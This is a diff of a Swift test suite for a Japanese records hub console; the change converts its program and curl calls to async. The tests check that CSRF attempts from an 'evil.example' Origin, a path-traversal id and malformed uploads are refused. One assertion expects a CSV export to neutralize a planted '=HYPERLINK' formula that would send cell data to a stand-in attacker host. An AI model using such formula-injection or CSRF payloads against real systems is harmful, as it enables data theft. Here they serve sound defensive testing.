@@ -101,7 +101,7 @@ struct ConsoleTests {
         let phraseFile = temp.file("passphrase")
         try scene.passphrase.write(toFile: phraseFile, atomically: true, encoding: .utf8)
         for person in ["kanri01", "kaigi01", "sousa01", "itaku01"] {
-            let exported = try runProgram(
+            let exported = try await runProgram(
                 Binaries.path("kirokuctl"),
                 [
                     "pki", "export-p12", "--dir", pki.dir.path, "--id", person, "--out", temp.file("\(person).p12"),
@@ -124,7 +124,7 @@ struct ConsoleTests {
         let script = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent().appending(
             path: "Browser/console_test.py"
         ).path
-        let run = try runProgram(
+        let run = try await runProgram(
             "/usr/bin/env", ["python3", script, scene.hub.url, scene.temp.url.path, scene.passphrase, screenshots])
         #expect(run.status == 0, "\(run.stdout)\n\(run.stderr)")
         #expect(run.stdout.contains("console: all checks passed"), "\(run.stdout)")
@@ -137,8 +137,8 @@ struct ConsoleTests {
         let scene = try await Self.scene("console-curl")
         defer { scene.hub.stop() }
         let pki = scene.pki
-        func curl(_ person: String, _ arguments: [String]) throws -> Outcome {
-            try runProgram(
+        func curl(_ person: String, _ arguments: [String]) async throws -> Outcome {
+            try await runProgram(
                 "/usr/bin/curl",
                 [
                     "-sS", "--max-time", "20", "--cacert", pki.caPath, "--cert", pki.certPath(.person, person), "--key",
@@ -147,30 +147,31 @@ struct ConsoleTests {
         }
         // A form without a token, or with a made-up one: refused, the finding unchanged.
         for token in ["", "token=AAAA&"] {
-            let posted = try curl("kanri01", ["--data", "\(token)reason=x", "\(scene.hub.url)/findings/1/acknowledge"])
+            let posted = try await curl(
+                "kanri01", ["--data", "\(token)reason=x", "\(scene.hub.url)/findings/1/acknowledge"])
             #expect(
                 posted.stdout.hasSuffix("\n403") && posted.stdout.contains("cross_site_request"), "\(posted.stdout)")
         }
         // The token shown to the 管理者 works for the 管理者 (and only with Origin of the hub, if one is sent).
-        let page = try curl("kanri01", ["\(scene.hub.url)/findings/1"])
+        let page = try await curl("kanri01", ["\(scene.hub.url)/findings/1"])
         let token = try #require(page.stdout.firstMatch(of: /name="token" value="([^"]+)"/)).1
-        let otherOrigin = try curl(
+        let otherOrigin = try await curl(
             "kanri01",
             [
                 "-H", "Origin: https://evil.example", "--data", "token=\(token)&reason=x",
                 "\(scene.hub.url)/findings/1/acknowledge",
             ])
         #expect(otherOrigin.stdout.hasSuffix("\n403"), "\(otherOrigin.stdout)")
-        let mine = try curl(
+        let mine = try await curl(
             "kanri01",
             ["--data", "token=\(token)&reason=%E7%A2%BA%E8%AA%8D", "\(scene.hub.url)/findings/1/acknowledge"])
         #expect(mine.stdout.hasSuffix("\n303"), "\(mine.stdout)")
-        let json = try curl("kanri01", ["\(scene.hub.url)/v1/findings"])
+        let json = try await curl("kanri01", ["\(scene.hub.url)/v1/findings"])
         #expect(json.stdout.contains("\"reason\":\"確認\""), "\(json.stdout)")
 
         // API writes: a form's type or none is refused before anything is judged; JSON is taken.
         for type in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"] {
-            let posted = try curl(
+            let posted = try await curl(
                 "kanri01",
                 [
                     "-H", "Content-Type: \(type)", "--data", #"{"reason":"r","subject":"s"}"#,
@@ -180,9 +181,9 @@ struct ConsoleTests {
                 posted.stdout.hasSuffix("\n415") && posted.stdout.contains("unsupported_media_type"),
                 "\(type): \(posted.stdout)")
         }
-        let holds = try curl("kanri01", ["\(scene.hub.url)/v1/holds"])
+        let holds = try await curl("kanri01", ["\(scene.hub.url)/v1/holds"])
         #expect(holds.stdout.hasPrefix("[]"), "\(holds.stdout)")
-        let placed = try curl(
+        let placed = try await curl(
             "kanri01",
             [
                 "-H", "Content-Type: application/json", "--data", #"{"reason":"r","subject":"s"}"#,
@@ -191,7 +192,7 @@ struct ConsoleTests {
         #expect(placed.stdout.hasSuffix("\n200"), "\(placed.stdout)")
 
         // Pages: no script, no framing, nothing cached; a refusal is a Japanese page with the same status.
-        let headers = try curl("sousa01", ["-D", "-", "-o", "/dev/null", "\(scene.hub.url)/findings"])
+        let headers = try await curl("sousa01", ["-D", "-", "-o", "/dev/null", "\(scene.hub.url)/findings"])
         #expect(headers.stdout.contains("HTTP/1.1 403"), "\(headers.stdout)")
         #expect(
             headers.stdout.lowercased().contains("content-security-policy: default-src 'none'"), "\(headers.stdout)")
@@ -202,11 +203,11 @@ struct ConsoleTests {
         // the page and the API before any body is read; a review form without its token, or posted from another
         // site with a good one, is refused; the API takes a submission only as JSON, never as a form.
         try pki.person("stranger01")
-        let strangerPage = try curl("stranger01", ["\(scene.hub.url)/submissions"])
+        let strangerPage = try await curl("stranger01", ["\(scene.hub.url)/submissions"])
         #expect(
             strangerPage.stdout.hasSuffix("\n403") && strangerPage.stdout.contains("not_permitted"),
             "\(strangerPage.stdout.suffix(300))")
-        let strangerPost = try curl(
+        let strangerPost = try await curl(
             "stranger01",
             [
                 "-H", "Content-Type: application/json", "--data", #"{"contract":"C-1"}"#,
@@ -215,14 +216,14 @@ struct ConsoleTests {
         #expect(
             strangerPost.stdout.hasSuffix("\n403") && strangerPost.stdout.contains("not_permitted"),
             "\(strangerPost.stdout)")
-        let noToken = try curl(
+        let noToken = try await curl(
             "kanri01", ["--data", "decision=accept&reason=x", "\(scene.hub.url)/submissions/1/review"])
         #expect(
             noToken.stdout.hasSuffix("\n403") && noToken.stdout.contains("cross_site_request"),
             "\(noToken.stdout.suffix(300))")
-        let listing = try curl("kanri01", ["\(scene.hub.url)/findings/1"])
+        let listing = try await curl("kanri01", ["\(scene.hub.url)/findings/1"])
         let reviewToken = try #require(listing.stdout.firstMatch(of: /name="token" value="([^"]+)"/)).1
-        let elsewhere = try curl(
+        let elsewhere = try await curl(
             "kanri01",
             [
                 "-H", "Origin: https://evil.example", "--data", "token=\(reviewToken)&decision=accept&reason=x",
@@ -231,16 +232,17 @@ struct ConsoleTests {
         #expect(
             elsewhere.stdout.hasSuffix("\n403") && elsewhere.stdout.contains("cross_site_request"),
             "\(elsewhere.stdout.suffix(300))")
-        let asForm = try curl(
+        let asForm = try await curl(
             "itaku01", ["-F", "contract=C-1", "-F", "file=@\(pki.caPath)", "\(scene.hub.url)/v1/submissions"])
         #expect(
             asForm.stdout.hasSuffix("\n415") && asForm.stdout.contains("unsupported_media_type"), "\(asForm.stdout)")
         #expect(
-            try curl("kanri01", ["\(scene.hub.url)/v1/submissions"]).stdout.hasPrefix("[]"), "nothing was submitted")
+            try await curl("kanri01", ["\(scene.hub.url)/v1/submissions"]).stdout.hasPrefix("[]"),
+            "nothing was submitted")
 
         // CSV: UTF-8 with BOM by default; CP932 on request, readable as Shift_JIS with the same rows.
         let csvFile = scene.temp.file("events-cp932.csv")
-        let csv = try runProgram(
+        let csv = try await runProgram(
             "/usr/bin/curl",
             [
                 "-sS", "-o", csvFile, "-w", "%{http_code}", "--cacert", pki.caPath, "--cert",
@@ -248,7 +250,7 @@ struct ConsoleTests {
                 pki.keyPath(.person, "kanri01"), "\(scene.hub.url)/events.csv?encoding=cp932&actor=sousa01",
             ])
         #expect(csv.stdout == "200")
-        let sjis = try runProgram("/usr/bin/iconv", ["-f", "CP932", "-t", "UTF-8", csvFile])
+        let sjis = try await runProgram("/usr/bin/iconv", ["-f", "CP932", "-t", "UTF-8", csvFile])
         #expect(
             sjis.stdout.hasPrefix("日時(JST),端末,連番") && sjis.stdout.contains("山田 太郎")
                 && sjis.stdout.components(separatedBy: "\r\n").count == 12, "\(sjis.stdout)")
@@ -257,44 +259,44 @@ struct ConsoleTests {
         // type check; a formula in a subject reached Excel; an oversized body was a 500; a broken filter
         // was dropped (widening the search); console refusals were JSON without the page headers.
         for header in ["Content-Type;", "Content-Type: ;"] {
-            let empty = try curl("sousa01", ["-X", "POST", "-H", header, "\(scene.hub.url)/v1/log/checkpoint"])
+            let empty = try await curl("sousa01", ["-X", "POST", "-H", header, "\(scene.hub.url)/v1/log/checkpoint"])
             #expect(empty.stdout.hasSuffix("\n415"), "\(header): \(empty.stdout)")
         }
-        let alive = try curl("sousa01", ["\(scene.hub.url)/v1/me"])
+        let alive = try await curl("sousa01", ["\(scene.hub.url)/v1/me"])
         #expect(alive.stdout.hasSuffix("\n200"), "the hub survived: \(alive.stdout)")
-        let doubled = try curl(
+        let doubled = try await curl(
             "kanri01",
             [
                 "-H", "Content-Type: text/plain", "--data", #"{"reason":"r","subject":"s"}"#,
                 "\(scene.hub.url)//v1/holds",
             ])
         #expect(doubled.stdout.hasSuffix("\n415"), "\(doubled.stdout)")
-        let formula = try curl("kanri01", ["\(scene.hub.url)/events.csv?actor=P1000"])
+        let formula = try await curl("kanri01", ["\(scene.hub.url)/events.csv?actor=P1000"])
         #expect(
             formula.stdout.contains(#",'=HYPERLINK(""http://evil.example/?""&A1,""x"")"#)
                 || formula.stdout.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#), "\(formula.stdout)")
         #expect(!formula.stdout.contains(#","=HYPERLINK"#) && !formula.stdout.contains(#",=HYPERLINK"#))
-        let big = try curl(
+        let big = try await curl(
             "kanri01",
             [
                 "-H", "Content-Type: application/json", "--data",
                 "{\"reason\":\"\(String(repeating: "x", count: 20_000))\"}", "\(scene.hub.url)/v1/holds",
             ])
         #expect(big.stdout.hasSuffix("\n413"), "\(big.stdout.suffix(200))")
-        let broken = try curl("kanri01", ["\(scene.hub.url)/events?subject=%C3%28"])
+        let broken = try await curl("kanri01", ["\(scene.hub.url)/events?subject=%C3%28"])
         #expect(
             broken.stdout.hasSuffix("\n400") && broken.stdout.contains("入力に誤りがあります"), "\(broken.stdout.suffix(300))")
-        let missing = try curl("kanri01", ["-D", "-", "\(scene.hub.url)/favicon.ico"])
+        let missing = try await curl("kanri01", ["-D", "-", "\(scene.hub.url)/favicon.ico"])
         #expect(
             missing.stdout.contains("HTTP/1.1 404")
                 && missing.stdout.lowercased().contains("content-security-policy: default-src 'none'")
                 && missing.stdout.contains("見つかりません"), "\(missing.stdout)")
-        let evidence = try curl(
+        let evidence = try await curl(
             "kanri01", ["-D", "-", "-o", "/dev/null", "\(scene.hub.url)/v1/evidence?actor=sousa01"])
         #expect(
             evidence.stdout.lowercased().contains("cache-control: no-store")
                 && evidence.stdout.lowercased().contains("x-content-type-options: nosniff"), "\(evidence.stdout)")
-        let empty = try curl(
+        let empty = try await curl(
             "kanri01",
             [
                 "-H", "Content-Type: application/json", "--data",
@@ -305,7 +307,7 @@ struct ConsoleTests {
 
         // Someone who may not replace a register is refused before the upload is read; a boundary over 70
         // characters (RFC 2046) is not parsed; an id that climbs out of the PKI folder is refused.
-        let upload = try curl(
+        let upload = try await curl(
             "sousa01",
             [
                 "-F", "token=x", "-F", "csv=@\(scene.temp.file("passphrase"))",
@@ -313,50 +315,50 @@ struct ConsoleTests {
             ])
         #expect(
             upload.stdout.hasSuffix("\n403") && upload.stdout.contains("not_permitted"), "\(upload.stdout.suffix(300))")
-        let longBoundary = try curl(
+        let longBoundary = try await curl(
             "kanri01",
             [
                 "-H", "Content-Type: multipart/form-data; boundary=\(String(repeating: "a", count: 200))", "--data",
                 "x", "\(scene.hub.url)/registers/people/preview",
             ])
         #expect(longBoundary.stdout.hasSuffix("\n400"), "\(longBoundary.stdout.suffix(300))")
-        let climb = try runProgram(
+        let climb = try await runProgram(
             Binaries.path("kirokuctl"),
             ["pki", "export-p12", "--dir", pki.dir.path, "--id", "../hub/hub", "--out", scene.temp.file("x.p12")])
         #expect(climb.status != 0 && climb.stderr.contains("a person id is"), "\(climb.stderr)")
 
         // CP932 that cannot hold a character is refused with its place, in the console and in kirokuctl.
-        let refusedCSV = try curl("kanri01", ["\(scene.hub.url)/events.csv?encoding=cp932&actor=P3000"])
+        let refusedCSV = try await curl("kanri01", ["\(scene.hub.url)/events.csv?encoding=cp932&actor=P3000"])
         #expect(
             refusedCSV.stdout.hasSuffix("\n400") && refusedCSV.stdout.contains("U+20BB7")
                 && refusedCSV.stdout.contains("row 2, column 8"), "\(refusedCSV.stdout.suffix(400))")
         let person = ["--hub", scene.hub.url, "--pki", pki.dir.path, "--as", "kanri01"]
-        let ctlRefused = try runProgram(
+        let ctlRefused = try await runProgram(
             Binaries.path("kirokuctl"),
             ["query", "--actor", "P3000", "--format", "csv", "--encoding", "cp932"] + person)
         #expect(
             ctlRefused.status != 0 && ctlRefused.stderr.contains("U+20BB7")
                 && ctlRefused.stderr.contains("row 2, column 8"), "\(ctlRefused.stderr)")
         let ctlFile = scene.temp.file("ctl-cp932.csv")
-        let ctl = try runProgram(
+        let ctl = try await runProgram(
             "/bin/sh",
             [
                 "-c", "\"$0\" query --actor sousa01 --all --format csv --encoding cp932 \"$@\" > '\(ctlFile)'",
                 Binaries.path("kirokuctl"),
             ] + person)
         #expect(ctl.status == 0, "\(ctl.stderr)")
-        let ctlText = try runProgram("/usr/bin/iconv", ["-f", "CP932", "-t", "UTF-8", ctlFile])
+        let ctlText = try await runProgram("/usr/bin/iconv", ["-f", "CP932", "-t", "UTF-8", ctlFile])
         #expect(ctlText.status == 0 && ctlText.stdout.contains("住民票コード 90"), "\(ctlText.stdout.prefix(300))")
 
         // The .p12 opens with its passphrase (openssl as the browser's importer) and holds the person's certificate.
-        let opened = try runProgram(
+        let opened = try await runProgram(
             "/usr/bin/openssl",
             [
                 "pkcs12", "-in", scene.temp.file("kanri01.p12"), "-passin", "pass:\(scene.passphrase)", "-nokeys",
                 "-clcerts",
             ])
         #expect(opened.status == 0 && opened.stdout.contains("BEGIN CERTIFICATE"), "\(opened.stderr)")
-        let wrong = try runProgram(
+        let wrong = try await runProgram(
             "/usr/bin/openssl", ["pkcs12", "-in", scene.temp.file("kanri01.p12"), "-passin", "pass:wrong", "-nokeys"])
         #expect(wrong.status != 0)
         let mode =
@@ -420,22 +422,23 @@ struct ConsoleTests {
         let person = ["--hub", scene.hub.url, "--pki", pki.dir.path, "--as", "kaigi01"]
         // The 会議's witness cosigns the log first: the report prints that cosignature.
         let hubKey =
-            try runProgram(ctl, ["log", "key"] + person).stdout.split(separator: " ").first.map(String.init) ?? ""
+            try await runProgram(ctl, ["log", "key"] + person).stdout.split(separator: " ").first.map(String.init) ?? ""
         let witnessDir = scene.temp.file("witness")
         let witnessKey =
-            try runProgram(ctl, ["witness", "init", "--dir", witnessDir, "--name", "kaigi.test/witness"]).stdout
+            try await runProgram(ctl, ["witness", "init", "--dir", witnessDir, "--name", "kaigi.test/witness"]).stdout
             .split(separator: "\n").last.map(String.init) ?? ""
-        _ = try runProgram(ctl, ["log", "checkpoint", "--publish"] + person)
-        let cosigned = try runProgram(ctl, ["witness", "run", "--dir", witnessDir, "--hub-key", hubKey] + person)
+        _ = try await runProgram(ctl, ["log", "checkpoint", "--publish"] + person)
+        let cosigned = try await runProgram(ctl, ["witness", "run", "--dir", witnessDir, "--hub-key", hubKey] + person)
         #expect(cosigned.status == 0, "\(cosigned.stdout)\(cosigned.stderr)")
-        let note = try runProgram(ctl, ["log", "checkpoint"] + person).stdout
+        let note = try await runProgram(ctl, ["log", "checkpoint"] + person).stdout
 
         let html = scene.temp.file("report.html")
         let bundle = scene.temp.file("report-evidence.json")
-        let made = try runProgram(ctl, ["report", "--month", "2026-11", "--out", html, "--evidence", bundle] + person)
+        let made = try await runProgram(
+            ctl, ["report", "--month", "2026-11", "--out", html, "--evidence", bundle] + person)
         #expect(made.status == 0, "\(made.stderr)")
         // The evidence beside the report: its events, proven in the checkpoint it prints, verified offline.
-        let verified = try runProgram(ctl, ["verify", bundle, "--hub-key", hubKey, "--witness", witnessKey])
+        let verified = try await runProgram(ctl, ["verify", bundle, "--hub-key", hubKey, "--witness", witnessKey])
         #expect(
             verified.status == 0 && verified.stdout.contains("VERIFIED") && !verified.stdout.contains("NOT VERIFIED"),
             "\(verified.stdout)\(verified.stderr)")
@@ -507,12 +510,12 @@ struct ConsoleTests {
 
         // PDF: A4, Japanese text (和暦, a rare kanji name), the checkpoint's root.
         let pdf = scene.temp.file("report.pdf")
-        let printed = try runProgram(
+        let printed = try await runProgram(
             ctl, ["report", "--fiscal-year", "2026", "--half", "2", "--format", "pdf", "--out", pdf] + person)
         #expect(printed.status == 0, "\(printed.stderr)")
-        let info = try runProgram("/usr/bin/pdfinfo", [pdf])
+        let info = try await runProgram("/usr/bin/pdfinfo", [pdf])
         #expect(info.stdout.contains("A4"), "\(info.stdout)")
-        let words = try runProgram("/usr/bin/pdftotext", ["-layout", pdf, "-"]).stdout
+        let words = try await runProgram("/usr/bin/pdftotext", ["-layout", pdf, "-"]).stdout
         #expect(words.contains("令和8年度第2回") && words.contains("令和8年10月1日 から 令和9年3月31日 まで"), "\(words.prefix(600))")
         #expect(
             words.contains("髙﨑 一郎") && words.contains("佐藤 花子"),
@@ -521,10 +524,10 @@ struct ConsoleTests {
         #expect(
             words.replacingOccurrences(of: "\n", with: "").replacingOccurrences(of: " ", with: "").contains(root),
             "the root in the PDF")
-        let fonts = try runProgram("/usr/bin/pdffonts", [pdf]).stdout
+        let fonts = try await runProgram("/usr/bin/pdffonts", [pdf]).stdout
         #expect(fonts.contains("IPAex") && fonts.contains("CID"), "the Japanese font embedded as CID: \(fonts)")
         // Without Chromium, --format pdf says how to get it and writes nothing.
-        let without = try runProgram(
+        let without = try await runProgram(
             ctl,
             [
                 "report", "--month", "2026-11", "--format", "pdf", "--chromium", "/nonexistent/chromium", "--out",
@@ -535,7 +538,8 @@ struct ConsoleTests {
             "\(without.stderr)")
         #expect(!FileManager.default.fileExists(atPath: scene.temp.file("x.pdf")))
         // A bad period is refused with the forms it takes.
-        let bad = try runProgram(ctl, ["report", "--month", "2026-13", "--out", scene.temp.file("y.html")] + person)
+        let bad = try await runProgram(
+            ctl, ["report", "--month", "2026-13", "--out", scene.temp.file("y.html")] + person)
         #expect(bad.status != 0 && bad.stderr.contains("month is YYYY-MM"), "\(bad.stderr)")
         // Kept beside the screenshots, to be looked at.
         let keep =
